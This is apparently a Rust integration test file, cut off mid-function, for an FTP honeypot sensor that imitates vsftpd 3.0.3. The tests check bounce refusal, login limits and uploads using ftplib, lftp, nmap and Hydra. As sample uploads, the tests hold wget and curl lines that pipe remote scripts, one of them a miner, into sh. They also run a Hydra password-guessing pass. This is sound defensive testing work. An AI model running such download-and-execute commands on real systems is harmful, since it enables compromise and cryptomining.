//! The FTP honeypot against a raw-socket client checked line by line against the
//! replies of a real vsftpd 3.0.3 (`testdata/ftp/vsftpd-3.0.3/`), Python's `ftplib` in
//! passive and active mode, and `lftp`; bounces, failed logins and hostile lines. Each
//! test runs a real sensor on a loopback port with a pipeline collecting its events.

#![allow(clippy::unwrap_used, clippy::expect_used)] // tests panic on failure by design

use std::net::SocketAddr;
use std::path::Path;
use std::sync::Arc;
use std::time::Duration;

use hpti_core::event::{Event, EventKind};
use hpti_core::pipeline::Pipeline;
use hpti_core::testing::MemorySink;
use hpti_sensors::ftp::{FtpConfig, FtpSensor, FtpServer};
use hpti_sensors::honeypot::HoneypotConfig;
use hpti_sensors::shell::Persona;
use sha2::{Digest, Sha256};
use tokio::io::{AsyncBufReadExt, AsyncReadExt, AsyncWriteExt, BufReader};
use tokio::net::TcpStream;

/// Only to avoid hanging forever: no test measures time.
const PATIENCE: Duration = Duration::from_secs(30);

struct Harness {
    addr: SocketAddr,
    events: MemorySink,
    pipeline: Option<Pipeline>,
    dir: tempfile::TempDir,
}

impl Harness {
    async fn start(ftp: impl FnOnce(&mut FtpConfig)) -> Self {
        Self::start_with(|_| {}, ftp).await
    }

    async fn start_with(
        configure: impl FnOnce(&mut HoneypotConfig),
        ftp: impl FnOnce(&mut FtpConfig),
    ) -> Self {
        Self::start_full(|_| {}, configure, ftp).await
    }

    /// A ProFTPD persona on a host like the captures' one: its name resolves to
    /// `localhost`, and it has the account `ftptest` (password `ftptest`).
    async fn start_proftpd(ftp: impl FnOnce(&mut FtpConfig)) -> Self {
        Self::start_full(
            |persona| {
                persona.hostname = "localhost".to_owned();
                // The captures' uid 1001 (a generated persona may have given it away).
                persona
                    .users
                    .retain(|u| u.uid != 1001 && u.name != "ftptest");
                persona.users.push(hpti_sensors::shell::PersonaUser {
                    name: "ftptest".to_owned(),
                    uid: 1001,
                    full_name: "FTP test".to_owned(),
                    sudo: false,
                });
            },
            |honeypot| {
                honeypot.auth.userdb.push("ftptest:x:ftptest".into());
                // The captures' anonymous root is laid out by earlier sessions.
                honeypot.keep_filesystem.enabled = true;
            },
            |config| {
                config.server = FtpServer::Proftpd;
                ftp(config);
            },
        )
        .await
    }

    async fn start_full(
        persona_of: impl FnOnce(&mut Persona),
        configure: impl FnOnce(&mut HoneypotConfig),
        ftp: impl FnOnce(&mut FtpConfig),
    ) -> Self {
        let dir = tempfile::tempdir().unwrap();
        let mut persona = Persona::generate();
        persona.seed >>= 1;
        persona_of(&mut persona);
        std::fs::write(
            dir.path().join("persona.toml"),
            toml::to_string_pretty(&persona).unwrap(),
        )
        .unwrap();
        let (mut pipeline, events) = hpti_core::testing::collecting_pipeline(dir.path());
        let mut honeypot = HoneypotConfig::default();
        honeypot.auth.userdb = vec!["root:x:hunter2".into()];
        honeypot.fetch.enabled = false;
        honeypot.limits.max_sessions_per_ip = 1000;
        configure(&mut honeypot);
        let mut config = FtpConfig {
            listen: "127.0.0.1:0".parse().unwrap(),
            login_failure_delay: Duration::from_millis(10),
            passive_ports: [41000, 41999],
            ..FtpConfig::default()
        };
        ftp(&mut config);
        let sensor = FtpSensor::bind(
            "ftp-test",
            dir.path(),
            config,
            &honeypot,
            pipeline.metrics(),
        )
        .await
        .unwrap();
        let addr = sensor.local_addr();
        pipeline.spawn_source(
            &hpti_core::component::ComponentId::new("test-source").unwrap(),
            Arc::new(sensor),
        );
        Self {
            addr,
            events,
            pipeline: Some(pipeline),
            dir,
        }
    }

    async fn wait_for(&self, what: &str, done: impl Fn(&[Event]) -> bool) -> Vec<Event> {
        for _ in 0..1200 {
            let events = self.events.events_by_time();
            if done(&events) {
                return events;
            }
            tokio::time::sleep(Duration::from_millis(25)).await;
        }
        panic!(
            "timed out waiting for {what}: {:#?}",
            self.events.events_by_time()
        );
    }

    async fn wait_closed(&self, count: usize) -> Vec<Event> {
        self.wait_for("session.closed", |e| {
            e.iter()
                .filter(|e| matches!(e.kind, EventKind::SessionClosed { .. }))
                .count()
                >= count
        })
        .await
    }

    fn data_dir(&self) -> &Path {
        self.dir.path()
    }

    async fn stop(mut self) {
        if let Some(pipeline) = self.pipeline.take() {
            pipeline.shutdown().await;
        }
    }
}

/// A control connection read a reply at a time.
struct Control {
    reader: BufReader<tokio::net::tcp::OwnedReadHalf>,
    writer: tokio::net::tcp::OwnedWriteHalf,
}

impl Control {
    async fn connect(addr: SocketAddr) -> Self {
        let stream = TcpStream::connect(addr).await.unwrap();
        let (read, writer) = stream.into_split();
        Self {
            reader: BufReader::new(read),
            writer,
        }
    }

    /// One reply, all its lines (CRLFs checked and stripped).
    async fn reply(&mut self) -> Vec<String> {
        let mut lines: Vec<String> = Vec::new();
        loop {
            let mut line = String::new();
            let n = tokio::time::timeout(PATIENCE, self.reader.read_line(&mut line))
                .await
                .expect("a reply in time")
                .unwrap();
            assert!(n > 0, "connection closed while reading a reply: {lines:?}");
            assert!(line.ends_with("\r\n"), "every line ends in CRLF: {line:?}");
            line.truncate(line.len() - 2);
            let done = lines.is_empty() && line.as_bytes().get(3) == Some(&b' ')
                || !lines.is_empty()
                    && line.len() >= 4
                    && line.as_bytes().get(3) == Some(&b' ')
                    && line[..3] == lines[0][..3];
            lines.push(line);
            if done {
                return lines;
            }
        }
    }

    async fn send(&mut self, line: &str) -> Vec<String> {
        self.writer
            .write_all(format!("{line}\r\n").as_bytes())
            .await
            .unwrap();
        self.reply().await
    }

    async fn closed(&mut self) -> bool {
        let mut rest = Vec::new();
        matches!(
            tokio::time::timeout(PATIENCE, self.reader.read_to_end(&mut rest)).await,
            Ok(Ok(0))
        )
    }
}

/// The server lines of a capture (`S:`), in order, for the commands listed.
fn captured(file: &str) -> String {
    let path = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../testdata/ftp/vsftpd-3.0.3")
        .join(file);
    std::fs::read_to_string(path).unwrap()
}

#[tokio::test]
async fn before_login_it_answers_as_vsftpd_does() {
    let harness = Harness::start(|_| {}).await;
    let mut ftp = Control::connect(harness.addr).await;
    let greeting = ftp.reply().await;
    assert_eq!(greeting, vec!["220 (vsFTPd 3.0.3)"]);
    let fixture = captured("pre-login.txt");
    assert!(fixture.contains("S: 220 (vsFTPd 3.0.3)"));
    for (command, expected) in [
        ("SYST", "530 Please login with USER and PASS."),
        ("HELP", "530 Please login with USER and PASS."),
        ("LIST", "530 Please login with USER and PASS."),
        ("AUTH TLS", "530 Please login with USER and PASS."),
        ("FOO", "530 Please login with USER and PASS."),
        ("OPTS UTF8 ON", "200 Always in UTF8 mode."),
        ("PASS x", "503 Login with USER first."),
        ("USER nosuchuser", "331 Please specify the password."),
    ] {
        let reply = ftp.send(command).await;
        assert_eq!(reply, vec![expected.to_owned()], "{command}");
        assert!(
            fixture.contains(&format!("S: {expected}")),
            "the capture of the real vsftpd has {expected:?}"
        );
    }
    let feat = ftp.send("FEAT").await;
    let expected: Vec<String> = [
        "211-Features:",
        " EPRT",
        " EPSV",
        " MDTM",
        " PASV",
        " REST STREAM",
        " SIZE",
        " TVFS",
        "211 End",
    ]
    .map(String::from)
    .to_vec();
    assert_eq!(feat, expected);
    for line in &expected {
        assert!(
            fixture.contains(&format!("S: {line}\n")),
            "{line:?} as captured"
        );
    }
    assert_eq!(ftp.send("QUIT").await, vec!["221 Goodbye."]);
    assert!(ftp.closed().await);
    harness.stop().await;
}

#[tokio::test]
async fn anonymous_sessions_read_but_never_write() {
    let harness = Harness::start(|_| {}).await;
    let mut ftp = Control::connect(harness.addr).await;
    ftp.reply().await;
    assert_eq!(
        ftp.send("USER anonymous").await,
        vec!["331 Please specify the password."]
    );
    assert_eq!(
        ftp.send("PASS IEUser@").await,
        vec!["230 Login successful."]
    );
    assert_eq!(ftp.send("SYST").await, vec!["215 UNIX Type: L8"]);
    assert_eq!(
        ftp.send("PWD").await,
        vec!["257 \"/\" is the current directory"]
    );
    assert_eq!(
        ftp.send("CWD /etc").await,
        vec!["550 Failed to change directory."],
        "the anonymous root is a chroot"
    );
    for command in ["STOR x", "DELE x", "MKD x", "SITE HELP", "RNFR x"] {
        assert_eq!(ftp.send(command).await, vec!["550 Permission denied."]);
    }
    assert_eq!(ftp.send("MLSD").await, vec!["500 Unknown command."]);
    assert_eq!(
        ftp.send("TYPE X").await,
        vec!["500 Unrecognised TYPE command."]
    );
    assert_eq!(ftp.send("LIST").await, vec!["425 Use PORT or PASV first."]);
    let status = ftp.send("STAT").await;
    assert_eq!(status[0], "211-FTP server status:");
    assert_eq!(status[1], "     Connected to 127.0.0.1");
    assert_eq!(status[2], "     Logged in as ftp");
    assert_eq!(status.last().unwrap(), "211 End of status");
    let help = ftp.send("HELP").await;
    let fixture = captured("anonymous.txt");
    for line in &help {
        assert!(
            fixture.contains(&format!("S: {line}\n")),
            "{line:?} as captured"
        );
    }
    ftp.send("QUIT").await;
    let events = harness.wait_closed(1).await;
    assert!(events.iter().any(|e| matches!(
        &e.kind,
        EventKind::LoginAttempt { username, success: true, .. } if username == "anonymous"
    )));
    assert!(events.iter().any(|e| matches!(
        &e.kind,
        EventKind::CommandInput { command } if command == "CWD /etc"
    )));
    harness.stop().await;
}

#[tokio::test]
async fn a_bounce_is_refused_and_recorded_and_nothing_connects() {
    let harness = Harness::start(|_| {}).await;
    // A listener standing for the third party: nothing may connect to it.
    let victim = tokio::net::TcpListener::bind("127.0.0.2:0").await.unwrap();
    let victim_port = victim.local_addr().unwrap().port();
    let mut ftp = Control::connect(harness.addr).await;
    ftp.reply().await;
    ftp.send("USER root").await;
    assert_eq!(
        ftp.send("PASS hunter2").await,
        vec!["230 Login successful."]
    );
    let port = format!("PORT 127,0,0,2,{},{}", victim_port >> 8, victim_port & 0xff);
    assert_eq!(ftp.send(&port).await, vec!["500 Illegal PORT command."]);
    assert_eq!(
        ftp.send(&format!("EPRT |1|127.0.0.2|{victim_port}|")).await,
        vec!["500 Illegal EPRT command."]
    );
    assert_eq!(
        ftp.send("PORT 127,0,0,1,0,80").await,
        vec!["500 Illegal PORT command."],
        "a privileged port of the client itself"
    );
    assert_eq!(ftp.send("LIST").await, vec!["425 Use PORT or PASV first."]);
    assert!(
        tokio::time::timeout(Duration::from_millis(300), victim.accept())
            .await
            .is_err(),
        "no connection to the third party"
    );
    ftp.send("QUIT").await;
    let events = harness.wait_closed(1).await;
    let bounces: Vec<_> = events
        .iter()
        .filter_map(|e| match &e.kind {
            EventKind::PortForward {
                host,
                port,
                accepted,
            } => Some((host.clone(), *port, *accepted)),
            _ => None,
        })
        .collect();
    assert_eq!(
        bounces,
        vec![
            ("127.0.0.2".to_owned(), victim_port, false),
            ("127.0.0.2".to_owned(), victim_port, false)
        ]
    );
    harness.stop().await;
}

#[tokio::test]
async fn the_third_failed_login_closes_the_connection() {
    let harness = Harness::start(|_| {}).await;
    let mut ftp = Control::connect(harness.addr).await;
    ftp.reply().await;
    for attempt in 1..=3 {
        ftp.send("USER root").await;
        assert_eq!(
            ftp.send(&format!("PASS wrong{attempt}")).await,
            vec!["530 Login incorrect."]
        );
        if attempt < 3 {
            assert_eq!(
                ftp.send("PASS again").await,
                vec!["503 Login with USER first."]
            );
        }
    }
    assert!(
        ftp.closed().await,
        "closed after the third failure, as max_login_fails=3"
    );
    let events = harness.wait_closed(1).await;
    let failed = events
        .iter()
        .filter(|e| matches!(&e.kind, EventKind::LoginAttempt { success: false, .. }))
        .count();
    assert_eq!(failed, 3, "each attempt recorded once");
    harness.stop().await;
}

#[tokio::test]
async fn a_line_without_lf_in_4096_bytes_is_refused_and_closed() {
    let harness = Harness::start(|_| {}).await;
    let mut ftp = Control::connect(harness.addr).await;
    ftp.reply().await;
    let mut fine = "A".repeat(4094);
    assert_eq!(
        ftp.send(&fine).await,
        vec!["530 Please login with USER and PASS."]
    );
    fine.push('A');
    ftp.writer.write_all(fine.as_bytes()).await.unwrap();
    ftp.writer.write_all(b"\r\n").await.unwrap();
    assert_eq!(ftp.reply().await, vec!["500 Input line too long."]);
    assert!(ftp.closed().await);
    assert!(captured("line-length.txt").contains("S: 500 Input line too long."));
    harness.stop().await;
}

/// Runs a client program to completion off the runtime's threads (the sensor under test
/// runs on them).
async fn run_client(mut command: std::process::Command) -> std::process::Output {
    tokio::task::spawn_blocking(move || command.output().unwrap())
        .await
        .unwrap()
}

fn python_ftplib_available() -> bool {
    std::process::Command::new("python3")
        .args(["-c", "import ftplib"])
        .output()
        .is_ok_and(|o| o.status.success())
}

fn tool_missing(tool: &str) {
    assert!(
        std::env::var("HPTI_REQUIRE_SERVICES").as_deref() != Ok("1"),
        "{tool} is required (HPTI_REQUIRE_SERVICES=1)"
    );
    eprintln!("SKIPPED: {tool} is not installed");
}

/// Python's ftplib: login, mkdir, upload (passive and active), listing, download.
#[tokio::test]
async fn python_ftplib_uploads_lists_and_downloads_in_both_modes() {
    if !python_ftplib_available() {
        return tool_missing("python3");
    }
    let harness = Harness::start(|_| {}).await;
    let script = r##"
import ftplib, io, sys
host, port = sys.argv[1], int(sys.argv[2])
payload = b"#!/bin/sh\nwget http://203.0.113.5/x.sh -O- | sh\n" * 50
ftp = ftplib.FTP()
ftp.connect(host, port, timeout=20)
print("WELCOME", ftp.getwelcome())
print("LOGIN", ftp.login("root", "hunter2"))
print("MKD", ftp.mkd("drop"))
ftp.cwd("drop")
print("PWD", ftp.pwd())
print("STOR", ftp.storbinary("STOR bot.sh", io.BytesIO(payload)))
ftp.set_pasv(False)
print("STOR-ACTIVE", ftp.storbinary("STOR second.bin", io.BytesIO(b"\x7fELF" + bytes(range(256)))))
ftp.set_pasv(True)
lines = []
ftp.retrlines("LIST", lines.append)
for line in lines:
    print("LIST", line)
print("NLST", sorted(ftp.nlst()))
got = io.BytesIO()
ftp.retrbinary("RETR bot.sh", got.write)
print("RETR-SAME", got.getvalue() == payload)
print("SIZE", ftp.size("bot.sh"))
print("QUIT", ftp.quit())
"##;
    let port = harness.addr.port().to_string();
    let output = {
        let mut python = std::process::Command::new("python3");
        python.args(["-c", script, "127.0.0.1", &port]);
        run_client(python).await
    };
    let stdout = String::from_utf8_lossy(&output.stdout).into_owned();
    assert!(
        output.status.success(),
        "ftplib failed: {stdout}\n{}",
        String::from_utf8_lossy(&output.stderr)
    );
    for expected in [
        "WELCOME 220 (vsFTPd 3.0.3)",
        "LOGIN 230 Login successful.",
        "STOR 226 Transfer complete.",
        "STOR-ACTIVE 226 Transfer complete.",
        "RETR-SAME True",
        "SIZE 2400",
        "QUIT 221 Goodbye.",
        "NLST ['bot.sh', 'second.bin']",
    ] {
        assert!(stdout.contains(expected), "{expected:?} in {stdout}");
    }
    let mkd = stdout.lines().find(|l| l.starts_with("MKD ")).unwrap();
    assert!(mkd.ends_with("/drop"), "{mkd}");
    let listing: Vec<&str> = stdout.lines().filter(|l| l.starts_with("LIST ")).collect();
    assert_eq!(listing.len(), 2, "{listing:?}");
    assert!(
        listing[0].starts_with("LIST -rw-r--r--    1 0        0            2400 ")
            && listing[0].ends_with(" bot.sh"),
        "{listing:?}"
    );
    let events = harness.wait_closed(1).await;
    let uploads: Vec<(String, Option<String>, Option<u64>)> = events
        .iter()
        .filter_map(|e| match &e.kind {
            EventKind::FileUpload {
                filename,
                sha256,
                size,
            } => Some((filename.clone(), sha256.clone(), *size)),
            _ => None,
        })
        .collect();
    let payload = b"#!/bin/sh\nwget http://203.0.113.5/x.sh -O- | sh\n".repeat(50);
    let digest = format!("{:x}", Sha256::digest(&payload));
    assert!(
        uploads
            .iter()
            .any(|(name, sha, size)| name.ends_with("/drop/bot.sh")
                && sha.as_deref() == Some(digest.as_str())
                && *size == Some(2400)),
        "{uploads:?}"
    );
    assert_eq!(uploads.len(), 2, "{uploads:?}");
    // Stored by digest under the data directory, not executable, nowhere else.
    let stored = walk(&harness.data_dir().join("artifacts"))
        .into_iter()
        .find(|p| p.file_name().is_some_and(|n| n.to_string_lossy() == digest))
        .expect("the upload is in the artifact store by its sha256");
    assert_eq!(std::fs::read(&stored).unwrap(), payload);
    use std::os::unix::fs::PermissionsExt;
    assert_eq!(
        std::fs::metadata(&stored).unwrap().permissions().mode() & 0o111,
        0
    );
    assert!(!harness.data_dir().join("drop").exists());
    harness.stop().await;
}

fn walk(dir: &Path) -> Vec<std::path::PathBuf> {
    let mut out = Vec::new();
    let Ok(entries) = std::fs::read_dir(dir) else {
        return out;
    };
    for entry in entries.flatten() {
        let path = entry.path();
        if path.is_dir() {
            out.extend(walk(&path));
        } else {
            out.push(path);
        }
    }
    out
}

/// lftp, as an attacker's script would drive it: login, put, ls, get.
#[tokio::test]
async fn lftp_puts_lists_and_gets() {
    if std::process::Command::new("lftp")
        .arg("--version")
        .output()
        .is_err()
    {
        return tool_missing("lftp");
    }
    let harness = Harness::start(|_| {}).await;
    let work = tempfile::tempdir().unwrap();
    std::fs::write(
        work.path().join("miner.sh"),
        b"curl -s http://198.51.100.7/xmrig | sh\n",
    )
    .unwrap();
    let commands = format!(
        "set net:max-retries 1; set net:timeout 10; set ftp:ssl-allow no; \
         open -u root,hunter2 -p {} 127.0.0.1; put miner.sh; ls; get miner.sh -o back.sh; bye",
        harness.addr.port()
    );
    let cwd = work.path().to_owned();
    let output = {
        let mut lftp = std::process::Command::new("lftp");
        lftp.args(["-c", &commands]).current_dir(cwd);
        run_client(lftp).await
    };
    let stdout = String::from_utf8_lossy(&output.stdout).into_owned();
    assert!(
        output.status.success(),
        "lftp failed: {stdout}\n{}",
        String::from_utf8_lossy(&output.stderr)
    );
    assert!(
        stdout.contains(" miner.sh"),
        "ls shows the upload: {stdout}"
    );
    assert_eq!(
        std::fs::read(work.path().join("back.sh")).unwrap(),
        b"curl -s http://198.51.100.7/xmrig | sh\n"
    );
    let events = harness.wait_closed(1).await;
    assert!(events.iter().any(|e| matches!(
        &e.kind,
        EventKind::FileUpload { filename, sha256: Some(_), .. } if filename.ends_with("miner.sh")
    )));
    harness.stop().await;
}

/// `nmap -sV -sC`: the version scan names vsftpd 3.0.3 and the default scripts see an
/// anonymous vsftpd, as on the real one (`testdata/ftp/vsftpd-3.0.3/nmap.txt`).
#[tokio::test]
async fn nmap_names_it_vsftpd_3_0_3() {
    if std::process::Command::new("nmap")
        .arg("--version")
        .output()
        .is_err()
    {
        return tool_missing("nmap");
    }
    let harness = Harness::start(|_| {}).await;
    let port = harness.addr.port().to_string();
    let output = {
        let mut nmap = std::process::Command::new("nmap");
        nmap.args(["-sV", "-sC", "-Pn", "-n", "-p", &port, "127.0.0.1"]);
        run_client(nmap).await
    };
    let stdout = String::from_utf8_lossy(&output.stdout).into_owned();
    let real = captured("nmap.txt");
    for expected in [
        "/tcp open  ftp     vsftpd 3.0.3",
        // `|` or `|_` before the script's name: the scripts' order varies by run.
        "ftp-anon: Anonymous FTP login allowed (FTP code 230)",
        "ftp-syst: ",
        "|      Logged in as ftp",
        "|      vsFTPd 3.0.3 - secure, fast, stable",
        "End of status",
        "Service Info: OS: Unix",
    ] {
        assert!(
            stdout.contains(expected),
            "{expected:?} in nmap's output:\n{stdout}"
        );
        assert!(
            real.contains(expected),
            "{expected:?} as against the real vsftpd"
        );
    }
    harness.stop().await;
}

/// Runs THC-Hydra's `ftp` module with `user` and `passwords` against the harness until
/// it reports the password, and returns every `login.attempt` it caused as
/// `(user, password, success)`, after checking that none was logged twice.
async fn hydra_ftp_attempts(
    harness: &Harness,
    user: &str,
    passwords: &[&str],
    found: &str,
) -> Vec<(String, String, bool)> {
    let work = tempfile::tempdir().unwrap();
    std::fs::write(work.path().join("pw.txt"), passwords.join("\n") + "\n").unwrap();
    let port = harness.addr.port().to_string();
    let list = work.path().join("pw.txt");
    let output = {
        let mut hydra = std::process::Command::new("hydra");
        hydra.args(["-l", user, "-P"]).arg(&list).args([
            "-t",
            "2",
            "-s",
            &port,
            "-I",
            "127.0.0.1",
            "ftp",
        ]);
        run_client(hydra).await
    };
    let stdout = String::from_utf8_lossy(&output.stdout).into_owned();
    assert!(
        stdout.contains(&format!("login: {user}   password: {found}")),
        "hydra found it: {stdout}\n{}",
        String::from_utf8_lossy(&output.stderr)
    );
    let events = harness
        .wait_for("hydra's sessions to close", |events| {
            let opened = events
                .iter()
                .filter(|e| matches!(e.kind, EventKind::SessionStarted))
                .count();
            let closed = events
                .iter()
                .filter(|e| matches!(e.kind, EventKind::SessionClosed { .. }))
                .count();
            opened > 0 && opened == closed
        })
        .await;
    let mut attempts: Vec<(String, String, bool)> = events
        .iter()
        .filter_map(|e| match &e.kind {
            EventKind::LoginAttempt {
                username,
                password,
                success,
                ..
            } => Some((
                username.clone(),
                password.clone().unwrap_or_default(),
                *success,
            )),
            _ => None,
        })
        .collect();
    attempts.sort();
    let before = attempts.len();
    attempts.dedup();
    assert_eq!(
        attempts.len(),
        before,
        "no attempt logged twice: {attempts:?}"
    );
    attempts
}

/// THC-Hydra's `ftp` module finds the password, and every attempt it made is one
/// `login.attempt` event.
#[tokio::test]
async fn hydra_ftp_finds_the_password_and_each_attempt_is_logged_once() {
    if std::process::Command::new("hydra").output().is_err() {
        return tool_missing("hydra");
    }
    let harness = Harness::start(|_| {}).await;
    let passwords = ["123456", "admin", "password", "toor", "hunter2", "qwerty"];
    let attempts = hydra_ftp_attempts(&harness, "root", &passwords, "hunter2").await;
    assert!(
        attempts.contains(&("root".to_owned(), "hunter2".to_owned(), true)),
        "{attempts:?}"
    );
    assert!(attempts.iter().all(|(user, p, ok)| user == "root"
        && passwords.contains(&p.as_str())
        && (*ok == (p == "hunter2"))));
    harness.stop().await;
}

/// Past the per-address limit, vsftpd's words instead of the greeting, then the close.
#[tokio::test]
async fn past_the_per_address_limit_a_client_gets_vsftpds_421() {
    let harness = Harness::start_with(|h| h.limits.max_sessions_per_ip = 2, |_| {}).await;
    let mut first = Control::connect(harness.addr).await;
    let mut second = Control::connect(harness.addr).await;
    assert_eq!(first.reply().await, vec!["220 (vsFTPd 3.0.3)"]);
    assert_eq!(second.reply().await, vec!["220 (vsFTPd 3.0.3)"]);
    let mut third = Control::connect(harness.addr).await;
    let expected = "421 There are too many connections from your internet address.";
    assert_eq!(third.reply().await, vec![expected]);
    assert!(third.closed().await);
    assert!(captured("limits.txt").contains(&format!("S: {expected}")));
    first.send("QUIT").await;
    second.send("QUIT").await;
    harness.stop().await;
}

/// The port of a `227 Entering Passive Mode (h1,h2,h3,h4,p1,p2).` reply.
fn passive_port(reply: &str) -> u16 {
    let inner = reply.split_once('(').unwrap().1.split_once(')').unwrap().0;
    let numbers: Vec<u16> = inner.split(',').map(|n| n.parse().unwrap()).collect();
    numbers[4] * 256 + numbers[5]
}

/// `REST` with an offset far past the end, then `STOR`: written at the end, nothing
/// allocated for the gap (a hostile offset must not make the sensor allocate terabytes).
#[tokio::test]
async fn a_huge_restart_offset_allocates_nothing() {
    let harness = Harness::start(|_| {}).await;
    let mut ftp = Control::connect(harness.addr).await;
    ftp.reply().await;
    ftp.send("USER root").await;
    ftp.send("PASS hunter2").await;
    ftp.send("TYPE I").await;
    assert_eq!(
        ftp.send("REST 999999999999999").await,
        vec!["350 Restart position accepted (999999999999999)."]
    );
    let pasv = ftp.send("PASV").await;
    let mut data = TcpStream::connect(("127.0.0.1", passive_port(&pasv[0])))
        .await
        .unwrap();
    assert_eq!(ftp.send("STOR /tmp/x").await, vec!["150 Ok to send data."]);
    data.write_all(b"payload").await.unwrap();
    drop(data);
    assert_eq!(ftp.reply().await, vec!["226 Transfer complete."]);
    assert_eq!(ftp.send("SIZE /tmp/x").await, vec!["213 7"]);
    ftp.send("QUIT").await;
    harness.stop().await;
}

/// The same conversation with Debian's real vsftpd and with the sensor: every reply
/// line equal (the commands whose answers depend on neither the files, the time nor
/// PAM's delays). `STAT`'s client count is masked: vsftpd counts the start-up probe's
/// connection until it has reaped its process.
#[tokio::test]
async fn replies_match_a_real_vsftpd_line_by_line() {
    let Some(vsftpd) = ["/usr/sbin/vsftpd", "/sbin/vsftpd"]
        .into_iter()
        .find(|p| Path::new(p).exists())
    else {
        return tool_missing("vsftpd (Debian's package)");
    };
    let work = tempfile::tempdir().unwrap();
    let anon = work.path().join("anon");
    std::fs::create_dir(&anon).unwrap();
    let empty = work.path().join("empty");
    std::fs::create_dir(&empty).unwrap();
    use std::os::unix::fs::PermissionsExt;
    for dir in [&anon, &empty] {
        std::fs::set_permissions(dir, std::fs::Permissions::from_mode(0o755)).unwrap();
    }
    let port = {
        let probe = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        probe.local_addr().unwrap().port()
    };
    let conf = work.path().join("vsftpd.conf");
    std::fs::write(
        &conf,
        format!(
            "listen=YES\nlisten_ipv6=NO\nlisten_address=127.0.0.1\nlisten_port={port}\n\
             background=NO\nanonymous_enable=YES\nanon_root={}\nlocal_enable=NO\n\
             write_enable=NO\nconnect_from_port_20=NO\npasv_min_port=42000\n\
             pasv_max_port=42100\nsecure_chroot_dir={}\nseccomp_sandbox=NO\n\
             xferlog_enable=NO\nssl_enable=NO\n",
            anon.display(),
            empty.display()
        ),
    )
    .unwrap();
    /// Kills the real server however the test ends.
    struct Server(std::process::Child);
    impl Drop for Server {
        fn drop(&mut self) {
            let _ = self.0.kill();
            let _ = self.0.wait();
        }
    }
    let mut real = Server(
        std::process::Command::new(vsftpd)
            .arg(&conf)
            .stderr(std::process::Stdio::piped())
            .spawn()
            .unwrap(),
    );
    let real_addr: SocketAddr = format!("127.0.0.1:{port}").parse().unwrap();
    let mut up = false;
    for _ in 0..100 {
        if TcpStream::connect(real_addr).await.is_ok() {
            up = true;
            break;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    if !up {
        let _ = real.0.kill();
        let mut stderr = String::new();
        if let Some(mut err) = real.0.stderr.take() {
            let _ = std::io::Read::read_to_string(&mut err, &mut stderr);
        }
        panic!("vsftpd did not start (it needs root and the `ftp` user): {stderr}");
    }
    let harness = Harness::start(|_| {}).await;
    let script = [
        "SYST",
        "HELP",
        "FEAT",
        "OPTS UTF8 ON",
        "OPTS MODE Z",
        "PASS early",
        "NOOP",
        "USER anonymous",
        "PASS IEUser@",
        "SYST",
        "STAT",
        "PWD",
        "XPWD",
        "CWD /nonexistent",
        "CDUP",
        "CWD /",
        "TYPE I",
        "TYPE A",
        "TYPE X",
        "MODE S",
        "MODE B",
        "STRU F",
        "STRU R",
        "SIZE missing",
        "MDTM missing",
        "RETR missing",
        "LIST",
        "NLST",
        "STOR x",
        "APPE x",
        "STOU",
        "DELE x",
        "MKD x",
        "RMD x",
        "RNFR x",
        "RNTO y",
        "SITE HELP",
        "REST 100",
        "REST",
        "ABOR",
        "ALLO 100",
        "ACCT x",
        "REIN",
        "SMNT x",
        "HELP",
        "HELP LIST",
        "NOOP",
        "EPSV 2",
        "EPSV 3",
        "PORT 10,1,2,3,4,5",
        "PORT 127,0,0,1,0,21",
        "PORT garbage",
        "EPRT |1|10.1.2.3|4000|",
        "EPRT |2|::1|4000|",
        "EPRT 127.0.0.1",
        "FOO",
        "MLSD",
        "MLST x",
        "AUTH TLS",
        "USER other",
        "PASS again",
        "QUIT",
    ];
    let mut conversations = Vec::new();
    for addr in [real_addr, harness.addr] {
        let mut ftp = Control::connect(addr).await;
        let mut replies = vec![ftp.reply().await];
        for line in script {
            replies.push(ftp.send(line).await);
        }
        conversations.push(replies);
    }
    drop(real);
    let mask = |replies: &Vec<Vec<String>>| -> Vec<Vec<String>> {
        replies
            .iter()
            .map(|reply| {
                reply
                    .iter()
                    .map(|line| match line.split_once("client count was ") {
                        Some((head, _)) => format!("{head}client count was N"),
                        None => line.clone(),
                    })
                    .collect()
            })
            .collect()
    };
    let (real, sensor) = (&mask(&conversations[0]), &mask(&conversations[1]));
    for (i, (want, got)) in real.iter().zip(sensor).enumerate() {
        let command = if i == 0 { "(greeting)" } else { script[i - 1] };
        assert_eq!(got, want, "the reply to {command}");
    }
    assert_eq!(real.len(), sensor.len());
    harness.stop().await;
}

/// A control-connection client in Python (`ssl`): sends the commands of stdin (a JSON
/// list) one at a time, upgrading to TLS after a `234`, and prints every reply as JSON
/// (`[command, [lines]]`); a closed connection ends it (`[command, null]`).
const FTPS_CLIENT: &str = r##"
import json, socket, ssl, sys
host, port = sys.argv[1], int(sys.argv[2])
commands = json.load(sys.stdin)
sock = socket.create_connection((host, port), timeout=20)
stream = sock.makefile("rb")
def reply():
    lines = []
    while True:
        line = stream.readline()
        if not line:
            return None
        assert line.endswith(b"\r\n"), line
        line = line[:-2].decode()
        lines.append(line)
        if len(lines) == 1 and line[3:4] == " ":
            return lines
        if len(lines) > 1 and line[3:4] == " " and line[:3] == lines[0][:3]:
            return lines
out = [["", reply()]]
context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
context.check_hostname = False
context.verify_mode = ssl.CERT_NONE
for command in commands:
    sock.sendall(command.encode() + b"\r\n")
    lines = reply()
    out.append([command, lines])
    if lines is None:
        break
    if lines[0].startswith("234 "):
        sock = context.wrap_socket(sock)
        stream = sock.makefile("rb")
        out.append(["#tls", [sock.version(), sock.cipher()[0], str(sock.selected_alpn_protocol())]])
print(json.dumps(out))
"##;

/// The `(command, reply lines)` pairs of one section of a capture (from the line that
/// starts with `start` to the next `# ---` or `####` line).
fn capture_section(file: &str, start: &str) -> Vec<(String, Vec<String>)> {
    let text = captured(file);
    let mut pairs: Vec<(String, Vec<String>)> = Vec::new();
    let mut inside = false;
    for line in text.lines() {
        if line.starts_with(start) {
            inside = true;
            continue;
        }
        if !inside {
            continue;
        }
        if line.starts_with("# ---") || line.starts_with("####") {
            break;
        }
        if let Some(command) = line.strip_prefix("C: ") {
            pairs.push((command.to_owned(), Vec::new()));
        } else if let Some(reply) = line.strip_prefix("S: ") {
            match pairs.last_mut() {
                Some((_, lines)) => lines.push(reply.to_owned()),
